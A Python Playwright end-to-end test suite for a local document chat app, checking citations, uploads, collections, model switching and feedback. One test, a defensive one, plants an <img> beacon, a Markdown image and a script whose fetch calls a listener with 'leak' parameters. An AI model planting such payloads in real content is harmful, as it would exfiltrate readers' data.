"""The chat in a real browser: Debian's headless Chromium, driven by Playwright.

Nothing is downloaded at run time: the browser is /usr/bin/chromium (scripts/browser.sh
installs it) and it runs with a fresh profile and background networking off.
"""
import re
import time
from pathlib import Path

import pytest

pytestmark = pytest.mark.e2e
CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = Path(__file__).resolve().parent.parent / "artifacts"
LORA_DOC = "deep-learning-and-choosing-a-model.txt"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run", "--no-proxy-server"]
# an exchange ends with sources, an abstention or an error
ANSWERED = re.compile(r"click a number or a source to read the passage|Not found in your documents|⚠️")
# the chat's text length after every change, recorded in the page while the answer streams
RECORD_LENGTHS = """() => {
    const chat = document.querySelector('#chat');
    window.__lengths = [];
    new MutationObserver(() => window.__lengths.push(chat.innerText.length))
        .observe(chat, {subtree: true, childList: true, characterData: true});
}"""


@pytest.fixture
def page(tmp_path):
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: run scripts/browser.sh (./run.sh test does)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        # a persistent context on an empty folder is how Playwright takes --user-data-dir
        context = pw.chromium.launch_persistent_context(
            str(tmp_path / "profile"), executable_path=str(CHROMIUM), headless=True,
            args=CHROMIUM_ARGS, viewport={"width": 1280, "height": 1000})
        page = context.new_page()
        page.set_default_timeout(120_000)  # a loaded two-core CI machine renders slowly
        try:
            yield page
        finally:
            context.close()


def test_question_streams_an_answer_with_its_sources(chat_app, page):
    ARTIFACTS.mkdir(exist_ok=True)
    try:
        _ask_and_open_a_source(chat_app.url, page)
    except BaseException:  # keep what the page showed for whoever reads the CI log
        page.screenshot(path=str(ARTIFACTS / "chat-failure.png"), full_page=True)
        raise
    page.screenshot(path=str(ARTIFACTS / "chat.png"), full_page=True)


def sources(chat):
    """The titles of the answer's sources ("1 notes.md › Heading"), each after its number chip."""
    return chat.locator("sup.source-n").locator("xpath=..")


def _ask_and_open_a_source(url, page):
    page.goto(url)
    status = page.locator("#status")
    assert re.search(r"SmolLM2.*all-MiniLM-L6-v2.*\d+ chunks from \d+ documents", status.inner_text())
    box = page.locator("#question textarea")
    box.wait_for()
    page.locator("#chat").wait_for()  # the page draws its parts one by one
    page.evaluate(RECORD_LENGTHS)
    box.fill("What is LoRA?")
    box.press("Enter")

    chat = page.locator("#chat")
    chat.get_by_text(ANSWERED).first.wait_for(timeout=600_000)
    titles = sources(chat).all_inner_texts()
    assert titles, f"no sources under the answer:\n{chat.inner_text()}"
    assert any(LORA_DOC in t for t in titles), titles
    # numbered 1..n as the reader meets them, in words: no scores in the titles
    assert [t.split()[0] for t in titles] == [str(i) for i in range(1, len(titles) + 1)], titles
    assert not any("similarity" in t for t in titles), titles
    answer = chat.locator("[data-testid=bot]").first.inner_text().strip()
    assert answer and not answer.startswith("⚠️") and "Not found" not in answer
    assert "Sources" in chat.inner_text()
    # the answer grew in several steps before the sources appeared, i.e. it streamed
    lengths = page.evaluate("window.__lengths")
    assert len(set(lengths)) >= 4, lengths
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "answer.png"), full_page=True)

    # the answer's citation is a numbered chip; clicked, it opens its source (the block slides
    # open: wait for it) and brings the supporting sentence into view
    chip = chat.locator("[data-testid=bot] sup.cite:not(.source-n)").first
    assert chip.inner_text().strip() == "1" and "Source 1: " in chip.get_attribute("title")
    chip.click()
    page.wait_for_function("""() => {
        const blocks = [...document.querySelectorAll('#chat .thought-group .content')];
        const open = blocks.filter(b => b.getBoundingClientRect().height > 40
            && b.getBoundingClientRect().height >= b.scrollHeight - 1 && b.innerText.trim().length > 100);
        return open.length === 1;
    }""")
    assert "Traceback" not in page.content()
    block = chat.locator(".thought-group", has=page.locator("sup.source-n", has_text=re.compile("^1$"))).first
    assert block.locator(".content").first.bounding_box()["height"] > 40  # the one opened is source 1
    # the source viewer: the sentence of the passage that supports the answer is highlighted
    marks = block.locator("mark").all_inner_texts()
    assert marks, block.inner_text()
    words = {w.lower() for w in re.findall(r"[A-Za-z]{4,}", answer)}
    assert all(m.strip() in block.inner_text() and words & {w.lower() for w in re.findall(r"[A-Za-z]{4,}", m)}
               for m in marks), (marks, answer)
    # scrolled to it: the mark is inside the chat's visible area
    page.wait_for_function("""() => {
        const mark = [...document.querySelectorAll('#chat .thought-group mark')].find(m => m.offsetHeight > 0);
        const box = document.querySelector('#chat .bubble-wrap') || document.querySelector('#chat');
        if (!mark || !box) return false;
        const m = mark.getBoundingClientRect(), b = box.getBoundingClientRect();
        return m.top >= b.top - 1 && m.bottom <= b.bottom + 1;
    }""")
    # the scores stay available, small, in the source's details line
    assert re.search(r"Details: similarity to the question \d\.\d\d · passage \d+ of those read",
                     block.inner_text()), block.inner_text()
    block.screenshot(path=str(ARTIFACTS / "source-viewer.png"))


class _Listener:
    """An HTTP server on a loopback port that records every request made to it."""

    def __init__(self):
        import http.server
        import threading

        seen = self.requests = []

        class Record(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_documents_cannot_make_the_browser_fetch_and_questions_show_while_queued(chat_app, page, tmp_path):
    """A passage holding an <img> beacon, a Markdown image and a script is shown as that text,
    and the browser requests nothing from the listener they name. A question shows in the chat
    the moment it is sent, with its place in the queue while another answer is written."""
    listener = _Listener()
    tag = f'<img src="{listener.base}/beacon.png?leak=x">'
    markdown_image = f"![logo]({listener.base}/md.png?leak=y)"
    script = f'<script>fetch("{listener.base}/script?leak=z")</script>'
    doc = tmp_path / "quorvex-beacons.md"
    doc.write_text(f"# Quorvex beacons\n\n## Mounting\n\nA quorvex beacon is mounted on the mast "
                   f"with three brass bolts. {tag} {markdown_image} {script}\n")
    other = page.context.new_page()
    try:
        page.goto(chat_app.url)
        page.locator("#upload input[type=file]").set_input_files(str(doc))
        page.locator("#upload-note").get_by_text(re.compile("is indexed and searchable|not added")).wait_for()
        assert "quorvex-beacons.md is indexed" in page.locator("#upload-note").inner_text()
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "upload.png"), full_page=True)
        other.goto(chat_app.url)
        other.locator("#question textarea").wait_for()

        box = page.locator("#question textarea")
        # Shift+Enter starts a new line; Enter sends
        box.fill("How is a quorvex")
        box.press("Shift+Enter")
        box.type("beacon mounted?")
        assert box.input_value() == "How is a quorvex\nbeacon mounted?" and box.is_enabled()
        box.fill("How is a quorvex beacon mounted?")
        box.press("Enter")
        chat = page.locator("#chat")
        chat.get_by_text("How is a quorvex beacon mounted?").wait_for(timeout=3000)  # at once
        # a second tab asks meanwhile: its question shows at once too, with its queue position
        other.locator("#question textarea").fill("What is the capital of Zorbania?")
        other.locator("#question textarea").press("Enter")
        other.locator("#chat").get_by_text("What is the capital of Zorbania?").wait_for(timeout=3000)
        other.get_by_text(re.compile(r"queue: 1/1")).wait_for(timeout=30_000)
        assert other.locator("#question textarea").is_disabled()  # until its answer is in

        chat.get_by_text(ANSWERED).first.wait_for(timeout=600_000)
        cited = sources(chat).filter(has_text="quorvex-beacons.md")
        assert cited.count(), f"the beacon note is not cited:\n{chat.inner_text()}"
        cited.first.click()
        page.wait_for_function("""(tag) => [...document.querySelectorAll('#chat .thought-group .content')]
            .some(b => b.innerText.includes(tag) && b.getBoundingClientRect().height > 20)""", arg=tag)
        shown = chat.inner_text()
        for text in (tag, markdown_image, script):
            assert text in shown, shown  # the markup reads as text
        assert page.evaluate("document.querySelectorAll('#chat img, #chat script').length") == 0
        other.locator("#chat").get_by_text("Not found in your documents").wait_for(timeout=120_000)
        ARTIFACTS.mkdir(exist_ok=True)
        other.screenshot(path=str(ARTIFACTS / "refusal.png"), full_page=True)
        page.wait_for_timeout(500)  # anything the page would fetch has been asked for by now
        assert listener.requests == []
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "beacon-failure.png"), full_page=True)
        raise
    finally:
        other.close()
        listener.close()


def test_a_collection_is_created_filled_asked_and_pruned(chat_app, page, tmp_path):
    """Create a collection in the page, upload a note into it and ask: the answer cites that
    note, and the default collection never received it. Then the documents panel moves the note
    to the trash, and the same question is not found any more."""
    doc = tmp_path / "hive-inspection.md"
    doc.write_text("# Hive inspection\n\nA beekeeper inspects a hive every nine days in spring, "
                   "looking for queen cells on the frames.\n")
    try:
        page.goto(chat_app.url)
        page.locator("#question textarea").wait_for()
        page.locator("#collection-tools").get_by_text("New or delete collection").click()
        page.locator("#new-collection input, #new-collection textarea").first.fill("bees")
        page.locator("#create-collection").click()
        page.locator("#collection-note").get_by_text("created").wait_for()
        assert page.locator("#collection input").input_value() == "bees"
        page.locator("#upload input[type=file]").set_input_files(str(doc))
        page.locator("#upload-note").get_by_text(re.compile("is indexed and searchable|not added")).wait_for()
        assert "hive-inspection.md is indexed" in page.locator("#upload-note").inner_text()
        assert "bees" in page.locator("#status").inner_text()
        box = page.locator("#question textarea")
        box.fill("How often does a beekeeper inspect a hive?")
        box.press("Enter")
        chat = page.locator("#chat")
        chat.get_by_text(ANSWERED).first.wait_for(timeout=600_000)
        titles = sources(chat).all_inner_texts()
        assert titles and all("hive-inspection.md" in t for t in titles), chat.inner_text()
        assert not (chat_app.corpus / doc.name).exists()

        # the documents panel lists it; moved to the trash, its passages are gone from answers
        page.locator("#documents").get_by_text("Documents").first.click()
        table = page.locator("#doc-table")
        # the panel may render the table after the click returns: until then there is no element
        page.wait_for_function("() => (document.querySelector('#doc-table')?.innerText || '')"
                               ".includes('hive-inspection.md')")
        row = table.inner_text()
        assert "md" in row and "113 bytes" in row and "20" in row, row
        page.locator("#doc-pick input").click()
        page.get_by_role("option", name="hive-inspection.md").click()
        page.locator("#remove-doc").click()
        page.locator("#doc-note").get_by_text("removed from the index").wait_for()
        assert "hive-inspection.md" not in table.inner_text()
        box.fill("How often does a beekeeper inspect a hive?")
        box.press("Enter")
        chat.get_by_text("Not found in your documents").wait_for(timeout=120_000)
        trash = chat_app.corpus.parent / "collections" / ".trash" / "documents" / "bees"
        assert [p.name for p in trash.rglob("*.md")] == ["hive-inspection.md"]
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "collection-failure.png"), full_page=True)
        raise
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "collection.png"), full_page=True)


def test_model_picker_switches_the_model_for_the_next_questions(chat_app, page):
    """The picker lists the shipped GGUF first and the models folder's files; picking one loads
    it once and the next answer comes from it; a broken file is one line and changes nothing."""
    from tests.conftest import PICKER_BROKEN, PICKER_COPY

    def pick(label: str) -> None:
        page.locator("#model-picker input").click()
        page.get_by_role("option", name=label).click()

    try:
        page.goto(chat_app.url)
        status = page.locator("#status")
        status.get_by_text(re.compile(r"SmolLM2-135M-Instruct\.Q4_1\.gguf")).wait_for()
        # the picker is under Advanced, with a line on what the model in use costs and is good for
        page.locator("#advanced").get_by_text("Advanced").first.click()
        page.locator("#model-note").get_by_text(re.compile(r"about \d+ s an answer.*Good for: quick")).wait_for()
        page.locator("#model-picker input").click()
        options = [o.strip() for o in page.get_by_role("option").all_inner_texts()]
        names = [o.removeprefix("✓").strip().split(" · ")[0] for o in options]
        assert names == ["smollm2-135m: SmolLM2-135M-Instruct.Q4_1.gguf (shipped default)", PICKER_COPY,
                         PICKER_BROKEN], options
        cost = re.compile(r" · \d+ MB · about \d+ s an answer( \(estimate\))? · (quotes|writes)$")
        assert all(cost.search(o) for o in options), options  # what it costs here, how it answers
        assert options[0].startswith("✓") and not options[1].startswith("✓")  # the model in use

        page.get_by_role("option", name=PICKER_COPY).click()  # from the list that is open
        page.locator("#model-note").get_by_text(f"Answering with {PICKER_COPY}").wait_for(timeout=300_000)
        assert PICKER_COPY in status.inner_text()
        box = page.locator("#question textarea")
        box.fill("What is LoRA?")
        box.press("Enter")
        chat = page.locator("#chat")
        chat.get_by_text(ANSWERED).first.wait_for(timeout=600_000)
        assert sources(chat).count(), chat.inner_text()
        assert "⚠️" not in chat.inner_text()

        pick(PICKER_BROKEN)
        note = page.locator("#model-note").get_by_text(re.compile("⚠️"))
        note.wait_for(timeout=300_000)
        assert re.fullmatch(rf"⚠️ cannot load model .*{PICKER_BROKEN}: .+", note.inner_text().strip())
        assert PICKER_COPY in status.inner_text()  # the model in use stays, and the picker shows it
        assert page.locator("#model-picker input").input_value().startswith(f"{PICKER_COPY} · ")
        assert "Traceback" not in page.content()
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "picker-failure.png"), full_page=True)
        raise
    finally:  # the app is shared: later tests get the shipped model back
        if not page.locator("#model-picker input").is_visible():
            page.locator("#advanced").get_by_text("Advanced").first.click()
        pick("smollm2-135m: SmolLM2-135M-Instruct.Q4_1.gguf (shipped default)")
        page.locator("#model-note").get_by_text("Answering with SmolLM2-135M-Instruct.Q4_1.gguf") \
            .wait_for(timeout=300_000)


def test_a_document_picked_is_summarised_with_its_coverage_and_stop_ends_an_answer(chat_app, page):
    """"Ask about" names the document a question is about: "Summarise this" reads all of it and
    says so under the answer. Stop ends an answer being written and frees the box."""
    try:
        page.goto(chat_app.url)
        box = page.locator("#question textarea")
        box.wait_for()
        page.locator("#chat").wait_for()
        page.locator("#ask-document input").click()
        page.get_by_role("option", name="deep-learning-overview.md").click()
        box.fill("Summarise this")
        box.press("Enter")
        chat = page.locator("#chat")
        coverage = chat.locator("small.coverage")
        coverage.wait_for()
        assert re.fullmatch(r"Read (\d+) of \1 chunks of deep-learning-overview\.md\.", coverage.inner_text().strip())
        assert "Summary of deep-learning-overview.md" in chat.inner_text()
        # entries copied from their passage: no similarity score, even in the details
        assert "similarity" not in chat.inner_text() and "chunks of deep-learning-overview.md" in chat.inner_text()
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "survey.png"), full_page=True)  # what a reader sees

        page.locator("#ask-document input").click()
        page.get_by_role("option", name="All documents").click()
        page.wait_for_function("() => !document.querySelector('#question textarea').disabled")
        # an answer thought through step by step is long enough to be stopped while written: a
        # quoted one may be done before Esc arrives
        page.locator("#advanced").get_by_text("Advanced").first.click()
        page.locator("#template").get_by_text("Thinking step by step first (slower)").click()
        box.fill("What are autoencoders used for?")
        box.press("Enter")
        chat.locator(".draft-label").last.wait_for(timeout=600_000)  # the model is writing
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "answering.png"), full_page=True)
        page.keyboard.press("Escape")  # Esc is the Stop button
        chat.get_by_text("Stopped.").wait_for()
        page.wait_for_function("() => !document.querySelector('#question textarea').disabled")
        assert box.is_enabled() and "Draft, being checked" not in chat.inner_text()
        time.sleep(2)  # nothing of the stopped answer arrives afterwards
        assert "Draft, being checked" not in chat.inner_text() and "Stopped." in chat.inner_text()

        # "New conversation" while an answer is written: the answer does not come back into it,
        # and the next question starts the new conversation
        box.fill("What is a GAN made of?")
        box.press("Enter")
        chat.locator(".draft-label").last.wait_for(timeout=600_000)
        page.get_by_role("button", name="New conversation").click()
        page.wait_for_function("() => !document.querySelector('#question textarea').disabled")
        time.sleep(3)
        assert "GAN" not in chat.inner_text() and "Summary of" not in chat.inner_text()
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "survey-failure.png"), full_page=True)
        raise


def test_a_thumbs_down_with_a_correction_is_saved_and_exported_as_an_eval_case(chat_app, page, tmp_path):
    """Every answer has a thumbs up and down; a thumbs-down asks for the right answer, which is
    saved with the turn and becomes a `rag eval` case with that gold answer."""
    from rag import cli
    from rag.evaluation.data import load_jsonl
    from rag.feedback import FeedbackStore

    question, right = "What is LoRA used for?", "LoRA fine-tunes a large model cheaply by training small low-rank matrices."
    try:
        page.goto(chat_app.url)
        box = page.locator("#question textarea")
        box.wait_for()
        page.locator("#chat").wait_for()
        box.fill(question)
        box.press("Enter")
        chat = page.locator("#chat")
        chat.get_by_text(ANSWERED).first.wait_for(timeout=600_000)
        assert "⚠️" not in chat.inner_text()
        assert not page.locator("#correction-row").is_visible()  # until a thumbs-down
        dislike = chat.get_by_role("button", name="Dislike", exact=True)
        assert dislike.count() == 1 and chat.get_by_role("button", name="Like", exact=True).count() == 1
        dislike.click()
        note = page.locator("#feedback-note")
        note.get_by_text("Thanks — saved. If you know the right answer").wait_for()
        page.locator("#correction textarea").fill(right)
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "feedback.png"), full_page=True)
        page.locator("#send-correction").click()
        note.get_by_text(re.compile(r"^Thanks — saved\.$")).wait_for()
        assert not page.locator("#correction-row").is_visible()
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "feedback-failure.png"), full_page=True)
        raise

    history = chat_app.corpus.parent / "history.db"
    [fb] = [f for f in FeedbackStore(history).list() if f.question == question]
    assert (fb.rating, fb.correction, fb.via, fb.user, fb.collection) == ("down", right, "chat", None, "default")
    assert fb.answer and fb.model.startswith("SmolLM2") and fb.index_version.startswith("v")
    assert fb.conversation is not None and fb.turn is not None and fb.citations
    out = tmp_path / "feedback.jsonl"
    assert cli.main(["feedback", "export", "--history", str(history), "-o", str(out)]) == 0
    [case] = [i for i in load_jsonl(out).items if i.question == question]
    assert case.answers == (right,) and case.answerable and case.sources == () and case.split == "test"


def test_a_phone_sized_window_shows_the_chat_and_a_refused_file_leaves_the_upload_box(chat_app, page, tmp_path):
    """At phone width (390 px) nothing scrolls sideways, the conversations sidebar starts closed
    and opens over the chat, and the question box, Send and the chat fit the screen. A file
    the app refuses is named in the note and is not left in the upload box to be sent again."""
    bad = tmp_path / "tool.exe"
    bad.write_bytes(b"MZ\x90\x00")
    try:
        page.goto(chat_app.url)
        page.locator("#question textarea").wait_for()
        page.locator("#conversations").wait_for()
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "empty.png"), full_page=True)
        page.locator("#upload input[type=file]").set_input_files(str(bad))
        page.locator("#upload-note").get_by_text("tool.exe not added: unsupported file type '.exe'").wait_for()
        page.wait_for_function("() => !document.querySelector('#upload').innerText.includes('tool.exe')")
        page.screenshot(path=str(ARTIFACTS / "upload-refused.png"), full_page=True)

        page.set_viewport_size({"width": 390, "height": 844})
        page.reload()
        page.locator("#question textarea").wait_for()
        # (the page's script closes the sidebar once it is drawn)
        page.wait_for_function("() => !document.querySelector('#sidebar').classList.contains('open')")
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        for part in ("#chat", "#question textarea", "#send"):
            box = page.locator(part).bounding_box()
            assert box and box["x"] >= 0 and box["x"] + box["width"] <= 390, (part, box)
        assert page.locator("#question textarea").bounding_box()["y"] < 844  # on the first screen
        page.screenshot(path=str(ARTIFACTS / "narrow.png"))
        page.locator("#sidebar .toggle-button").click()
        # it slides in over the chat
        page.wait_for_function("() => document.querySelector('#new-conversation').getBoundingClientRect().x >= 0")
        time.sleep(0.5)
        page.screenshot(path=str(ARTIFACTS / "narrow-sidebar.png"))
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "narrow-failure.png"), full_page=True)
        raise


def test_new_conversation_reaches_a_question_still_waiting_in_the_queue(chat_app, page):
    """A question queued behind another tab's answer is dropped by New conversation: the page
    stays empty, and neither the question nor an answer to it comes back or is saved."""
    queued = "Which activation functions do the notes compare for hidden layers?"
    other = page.context.new_page()
    try:
        page.goto(chat_app.url)
        other.goto(chat_app.url)
        box, other_box = page.locator("#question textarea"), other.locator("#question textarea")
        box.wait_for()
        other_box.wait_for()
        # thought through step by step, the first answer holds the model long enough for the
        # other tab's question to queue behind it (a quoted one may be done first)
        page.locator("#advanced").get_by_text("Advanced").first.click()
        page.locator("#template").get_by_text("Thinking step by step first (slower)").click()
        box.fill("What are autoencoders used for?")
        box.press("Enter")
        page.locator("#chat .draft-label").last.wait_for(timeout=600_000)  # it holds the model
        other_box.fill(queued)
        other_box.press("Enter")
        other.get_by_text(re.compile(r"queue: 1/1")).wait_for(timeout=30_000)
        other.locator("#new-conversation").click()
        other.wait_for_function("() => !document.querySelector('#question textarea').disabled")
        page.locator("#chat").get_by_text(ANSWERED).first.wait_for(timeout=600_000)
        time.sleep(3)  # the queued answer would have started and shown by now
        assert "activation functions" not in other.locator("#chat").inner_text()
        assert not other.locator("#conversations label", has_text="activation functions").count()
    except BaseException:
        ARTIFACTS.mkdir(exist_ok=True)
        other.screenshot(path=str(ARTIFACTS / "queued-failure.png"), full_page=True)
        raise
    finally:
        other.close()
    from rag.history import History

    saved = History(chat_app.corpus.parent / "history.db").list(search="activation functions do the notes")
    assert saved == []
